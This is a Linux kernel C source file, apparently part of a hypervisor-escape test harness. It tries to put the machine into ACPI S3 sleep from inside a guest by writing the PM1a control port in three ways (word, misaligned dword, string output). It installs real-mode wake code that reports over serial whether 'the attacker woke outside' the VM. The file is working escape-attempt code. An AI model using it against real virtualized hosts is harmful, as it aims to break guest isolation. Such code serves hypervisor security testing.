// SPDX-License-Identifier: GPL-2.0-only
/*
 * Puts the machine to sleep (S3) by its own port, with a waking vector that leads to the attacker's code:
 * it wakes on the bare machine, in real mode, and says whether there is VT-x, which the guest world hides.
 */
#include <linux/acpi.h>
#include <linux/delay.h>
#include <linux/mm.h>

#include "attack.h"

/* Below 1 MB, where Linux has nothing but, higher up, its own start-up code. */
#define WAKE_PAGE 0x10000

/* Says its words on the first serial port, and switches the machine off, as Bochs wants it. */
extern const u8 wake_code[], wake_code_end[];
asm(".pushsection .rodata\n"
    ".code16\n"
    "wake_code: cli\n"
    "mov %cs, %ax\n"
    "mov %ax, %ds\n"
    "mov $1, %eax\n"
    "cpuid\n"
    "mov $(wake_outside - wake_code), %si\n"
    "test $0x20, %cl\n"
    "jnz 1f\n"
    "mov $(wake_inside - wake_code), %si\n"
    "1: mov $0x3fd, %dx\n"
    "2: in %dx, %al\n"
    "test $0x40, %al\n"
    "jz 2b\n"
    "lodsb\n"
    "test %al, %al\n"
    "jz 3f\n"
    "mov $0x3f8, %dx\n"
    "out %al, %dx\n"
    "jmp 1b\n"
    "3: mov $0xb004, %dx\n"
    "mov $0x2000, %ax\n"
    "out %ax, %dx\n"
    "4: hlt\n"
    "jmp 4b\n"
    "wake_outside: .asciz \"\\nthe attacker woke outside\\n\"\n"
    "wake_inside: .asciz \"\\nthe attacker woke inside\\n\"\n"
    "wake_code_end:\n"
    ".code64\n"
    ".popsection\n");

static void lay_wake_code(void)
{
	memcpy(__va(WAKE_PAGE), wake_code, wake_code_end - wake_code);
	acpi_set_firmware_waking_vector(WAKE_PAGE, 0);
}

/* PM1a control: the type of S3, and "now". */
static bool prepare(u16 *port, u32 *value)
{
	u8 type[2];

	*port = acpi_gbl_FADT.xpm1a_control_block.address;
	if (!*port || ACPI_FAILURE(acpi_get_sleep_type_data(ACPI_STATE_S3, &type[0], &type[1])))
		return false;
	*value = type[0] << 10 | 1 << 13 | 1;
	lay_wake_code();
	return true;
}

/* A machine that sleeps does not come back here. */
static enum verdict judge(u64 vector)
{
	mdelay(1);
	acpi_set_firmware_waking_vector(0, 0);
	return attack_fault(vector);
}

/* One instruction that writes @value, which is in RAX and where RSI points to, to @port. */
#define TRY_PORT(name, text)								\
static enum verdict try_##name(u16 port, u32 value)					\
{											\
	u64 vector = ATTACK_NO_FAULT, rax = value, count = 1;				\
	const u32 *from = &value;							\
											\
	asm volatile("1: " text "\n"							\
		     "jmp 3f\n"								\
		     "2: mov %%rax, %[fault]\n"						\
		     "3:\n"								\
		     _ASM_EXTABLE_TYPE(1b, 2b, EX_TYPE_FAULT)				\
		     : [fault] "+m" (vector), "+a" (rax), "+S" (from), "+c" (count)	\
		     : "d" (port) : "cc", "memory");					\
	return judge(vector);								\
}

TRY_PORT(outw, "outw %%ax, %%dx")
TRY_PORT(outl, "outl %%eax, %%dx")
TRY_PORT(outsb, "rep outsb")

static enum verdict word(void)
{
	u32 value;
	u16 port;

	return prepare(&port, &value) ? try_outw(port, value) : ATTACK_FAILED;
}

/* Not the register's own port: a byte below, four bytes at once. */
static enum verdict below(void)
{
	u32 value;
	u16 port;

	return prepare(&port, &value) ? try_outl(port - 1, value << 8 | inb(port - 1)) : ATTACK_FAILED;
}

/* Only the byte that matters, from memory. */
static enum verdict string(void)
{
	u32 value;
	u16 port;

	return prepare(&port, &value) ? try_outsb(port + 1, value >> 8) : ATTACK_FAILED;
}

static const struct attack_choice choices[] = {
	{ "word", word }, { "below", below }, { "string", string },
};

ATTACK_CHOICE(choices, "the machine sleeps, and wakes outside");
